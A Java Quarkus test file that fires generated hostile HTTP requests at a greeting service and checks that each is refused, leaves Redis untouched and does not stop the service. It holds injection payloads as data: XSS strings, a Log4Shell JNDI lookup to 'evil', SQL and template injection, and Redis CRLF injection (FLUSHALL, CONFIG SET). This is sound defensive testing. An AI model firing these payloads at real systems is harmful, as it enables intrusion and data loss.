package org.acme.greeting.http;

import static io.restassured.RestAssured.given;
import static org.hamcrest.Matchers.equalTo;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.ByteArrayOutputStream;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.IntStream;

import jakarta.inject.Inject;

import org.acme.greeting.support.RawHttp;
import org.acme.greeting.support.RedisTestResource;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

import io.quarkus.redis.datasource.RedisDataSource;
import io.quarkus.test.common.WithTestResource;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.RestAssured;
import io.vertx.core.json.JsonObject;

/**
 * Generated hostile requests, sent as raw bytes. Each gets a 4xx; each that reaches the
 * application gets a JSON error naming the problem; Redis is untouched and the service keeps
 * serving. The few that Vert.x's HTTP codec refuses before any application code runs (a request
 * line over 4 KiB, headers over 20 KiB, control characters in a header) get its bare 4xx with an
 * empty body, and Quarkus 3.34 has no hook to change that (quarkusio/quarkus#55082).
 */
@QuarkusTest
@WithTestResource(RedisTestResource.class)
class HostileInputTest {

    /** What a case must get: a status, and a fragment of the JSON error, or null for the codec's empty answer. */
    record Hostile(String description, byte[] request, int status, String error) {
        @Override
        public String toString() {
            return description;
        }
    }

    private static final Map<String, String> JSON = Map.of("Content-Type", "application/json");
    private static final int MAX_BODY = 16 * 1024;
    private static int sent;

    @Inject
    RedisDataSource redis;

    static List<Hostile> hostileRequests() {
        List<Hostile> cases = new ArrayList<>();
        // Control and invisible characters inside a name, by query and by JSON escape.
        int[] controls = IntStream.concat(IntStream.rangeClosed(0x00, 0x1F),
                IntStream.of(0x7F, 0x85, 0xA0, 0x200B, 0x200E, 0x202E, 0x2028, 0x2029, 0xFEFF)).toArray();
        for (int c : controls) {
            String name = "Ada" + Character.toString(c) + "Lovelace";
            String code = String.format("U+%04X at position 4", c);
            cases.add(new Hostile("query name with " + code, get("/greeting?name=" + encode(name)), 400, code));
            cases.add(new Hostile("JSON name with " + code,
                    post(JSON, String.format("{\"name\":\"Ada\\u%04xLovelace\"}", c)), 400, code));
        }
        // Markup, script and template or lookup syntax.
        for (String markup : List.of("<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
                "\"><svg onload=alert(1)>", "javascript:alert(1)", "Ada</title><h1>", "&lt;b&gt;",
                "{{7*7}}", "${jndi:ldap://evil/a}", "' OR '1'='1")) {
            cases.add(new Hostile("query markup " + markup, get("/greeting?name=" + encode(markup)), 400, "not allowed"));
            cases.add(new Hostile("JSON markup " + markup,
                    post(JSON, new JsonObject().put("name", markup).encode()), 400, "not allowed"));
        }
        // Redis protocol injection.
        for (String injection : List.of("Ada\r\nFLUSHALL", "Ada\r\n*1\r\n$8\r\nFLUSHALL\r\n", "\r\nSET greeting:count 0",
                "Ada\nDEL greeting:count", "Ada\rCONFIG SET dir /tmp")) {
            cases.add(new Hostile("query injection " + printable(injection),
                    get("/greeting?name=" + encode(injection)), 400, "not allowed"));
            cases.add(new Hostile("JSON injection " + printable(injection),
                    post(JSON, new JsonObject().put("name", injection).encode()), 400, "not allowed"));
        }
        cases.add(new Hostile("RESP FLUSHALL as the body", post(JSON, "*1\r\n$8\r\nFLUSHALL\r\n"), 400, "malformed JSON"));
        cases.add(new Hostile("inline FLUSHALL as the body", post(JSON, "FLUSHALL\r\n"), 400, "malformed JSON"));
        // Raw control characters inside a JSON string are not JSON.
        cases.add(new Hostile("raw newline in a JSON string", post(JSON, "{\"name\":\"Ada\nBob\"}"), 400, "malformed JSON"));
        cases.add(new Hostile("raw NUL in a JSON string", post(JSON, "{\"name\":\"Ada\u0000\"}"), 400, "malformed JSON"));
        // Bodies beyond quarkus.http.limits.max-body-size, announced or streamed.
        for (int size : new int[] { MAX_BODY + 1, 2 * MAX_BODY, 1024 * 1024, 8 * 1024 * 1024 }) {
            cases.add(new Hostile("body of " + size + " bytes", post(JSON, jsonOfSize(size)), 413, "request body is too large"));
        }
        cases.add(new Hostile("chunked body of 64 KiB", chunked(jsonOfSize(64 * 1024)), 413, "request body is too large"));
        // Deep nesting, under the size limit.
        for (int depth : new int[] { 1_001, 2_000 }) {
            cases.add(new Hostile("arrays nested " + depth + " deep as the name",
                    post(JSON, "{\"name\":" + "[".repeat(depth) + "]".repeat(depth) + "}"), 400, "nesting depth"));
            cases.add(new Hostile("objects nested " + depth + " deep",
                    post(JSON, "{\"a\":".repeat(depth) + "1" + "}".repeat(depth)), 400, "nesting depth"));
            cases.add(new Hostile("unclosed arrays " + depth + " deep", post(JSON, "[".repeat(depth)), 400, "malformed JSON"));
        }
        // Invalid UTF-8: in a JSON body, percent-encoded in the query, and raw in the request line.
        for (String bytes : List.of("ff", "fe", "80", "c0af", "c1a1", "e282", "eda080", "f4908080", "f8888080")) {
            byte[] body = concat("{\"name\":\"Ada".getBytes(StandardCharsets.US_ASCII), HexFormat.of().parseHex(bytes),
                    "\"}".getBytes(StandardCharsets.US_ASCII));
            cases.add(new Hostile("JSON with invalid UTF-8 " + bytes, post(JSON, body), 400, "request body is not valid UTF-8: byte 0x"));
            String percent = bytes.replaceAll("(..)", "%$1");
            cases.add(new Hostile("query with invalid UTF-8 " + percent, get("/greeting?name=Ada" + percent), 400,
                    "U+FFFD"));
            // The codec itself refuses C1 control bytes (0x80-0x9F) in a request line; the
            // application refuses every other raw byte outside printable ASCII (AsciiRequestTarget).
            byte[] raw = HexFormat.of().parseHex(bytes);
            boolean c1 = IntStream.range(0, raw.length).anyMatch(i -> (raw[i] & 0xE0) == 0x80);
            cases.add(new Hostile("raw bytes " + bytes + " in the request line",
                    RawHttp.request("GET", concat("/greeting?name=Ada".getBytes(StandardCharsets.US_ASCII), raw),
                            Map.of(), null),
                    400, c1 ? null : "percent-encode it as UTF-8"));
        }
        // Long query strings: names over the limit reach the function; lines over 4 KiB do not.
        for (int length : new int[] { 65, 256, 1_000, 4_000 }) {
            cases.add(new Hostile("name of " + length + " characters", get("/greeting?name=" + "a".repeat(length)), 400,
                    "at most 64 characters, got " + length));
        }
        for (int length : new int[] { 5_000, 64 * 1024, 1024 * 1024 }) {
            cases.add(new Hostile("request line of " + length + " bytes", get("/greeting?name=" + "a".repeat(length)), 414, null));
        }
        // Oversized or malformed headers.
        cases.add(new Hostile("one header of 24 KiB", get("/greeting", Map.of("X-Big", "b".repeat(24 * 1024))), 431, null));
        Map<String, String> many = new LinkedHashMap<>();
        IntStream.range(0, 300).forEach(i -> many.put("X-Many-" + i, "m".repeat(100)));
        cases.add(new Hostile("300 headers of 100 bytes", get("/greeting", many), 431, null));
        cases.add(new Hostile("cookie of 1 MiB", get("/greeting", Map.of("Cookie", "c=" + "x".repeat(1024 * 1024))), 431, null));
        cases.add(new Hostile("control character in a header", get("/greeting", Map.of("X-Bad", "a\u0001b")), 400, null));
        // Wrong content types for a JSON body.
        for (String type : List.of("text/plain", "text/html", "application/xml", "application/x-www-form-urlencoded",
                "multipart/form-data; boundary=x", "application/octet-stream", "image/png", "application/javascript",
                "text/json", "application/jsonp", "*/*", "application/json; charset=utf-16",
                "application/json; charset=iso-8859-1", "<script>")) {
            cases.add(new Hostile("Content-Type " + type, post(Map.of("Content-Type", type), "{\"name\":\"Ada\"}"), 415,
                    type.contains("charset") ? "UTF-8" : "Content-Type must be application/json"));
        }
        cases.add(new Hostile("a body without Content-Type", post(Map.of(), "{\"name\":\"Ada\"}"), 415, "Content-Type is missing"));
        return cases;
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("hostileRequests")
    void hostileRequestIsRefusedWithoutTouchingRedisAndTheServiceKeepsServing(Hostile hostile) {
        Map<String, String> before = redisContents();

        RawHttp.Response response = RawHttp.send(RestAssured.port, hostile.request());
        sent++;

        assertEquals(hostile.status(), response.status(), hostile + ": " + response.body());
        assertNull(response.headers().get("server"), "no server header");
        if (hostile.error() == null) {
            assertEquals("", response.body(), hostile + ": the HTTP codec's own answer has no body");
        } else {
            assertEquals("application/json", response.headers().get("content-type"), hostile + ": " + response);
            assertEquals("nosniff", response.headers().get("x-content-type-options"), hostile + ": " + response);
            assertEquals("no-store", response.headers().get("cache-control"), hostile + ": " + response);
            String error = new JsonObject(response.body()).getString("error");
            assertTrue(error.contains(hostile.error()), "error '" + error + "' names '" + hostile.error() + "'");
            assertFalse(response.body().contains("Exception") || response.body().contains("\tat "), "no stack trace");
            assertFalse(response.body().contains("<"), "no markup echoed: " + response.body());
        }
        assertEquals(before, redisContents(), "Redis data is untouched");

        given().queryParam("name", "Ada").get("/greeting").then()
                .statusCode(200)
                .body("message", equalTo("Hello, Ada!"))
                .body("counter", equalTo("ok"));
    }

    @AfterAll
    static void atLeastAHundredCases() {
        assertTrue(sent >= 100, "only " + sent + " hostile requests were sent");
    }

    /** Every key in Redis with its value. */
    private Map<String, String> redisContents() {
        Map<String, String> contents = new LinkedHashMap<>();
        for (String key : redis.key().keys("*")) {
            contents.put(key, redis.value(String.class).get(key));
        }
        return contents;
    }

    private static byte[] get(String target) {
        return get(target, Map.of());
    }

    private static byte[] get(String target, Map<String, String> headers) {
        return RawHttp.request("GET", target, headers, null);
    }

    private static byte[] post(Map<String, String> headers, String body) {
        return post(headers, body.getBytes(StandardCharsets.UTF_8));
    }

    private static byte[] post(Map<String, String> headers, byte[] body) {
        return RawHttp.request("POST", "/greeting", headers, body);
    }

    private static byte[] chunked(String body) {
        ByteArrayOutputStream chunks = new ByteArrayOutputStream();
        byte[] bytes = body.getBytes(StandardCharsets.UTF_8);
        for (int i = 0; i < bytes.length; i += 1024) {
            int n = Math.min(1024, bytes.length - i);
            chunks.writeBytes((Integer.toHexString(n) + "\r\n").getBytes(StandardCharsets.US_ASCII));
            chunks.write(bytes, i, n);
            chunks.writeBytes("\r\n".getBytes(StandardCharsets.US_ASCII));
        }
        chunks.writeBytes("0\r\n\r\n".getBytes(StandardCharsets.US_ASCII));
        return RawHttp.request("POST", "/greeting",
                Map.of("Content-Type", "application/json", "Transfer-Encoding", "chunked"), chunks.toByteArray());
    }

    private static String jsonOfSize(int size) {
        String open = "{\"name\":\"";
        return open + "d".repeat(size - open.length() - 2) + "\"}";
    }

    private static String encode(String text) {
        return URLEncoder.encode(text, StandardCharsets.UTF_8).replace("+", "%20");
    }

    private static String printable(String text) {
        return text.replace("\r", "\\r").replace("\n", "\\n");
    }

    private static byte[] concat(byte[]... parts) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        for (byte[] part : parts) {
            out.writeBytes(part);
        }
        return out.toByteArray();
    }
}
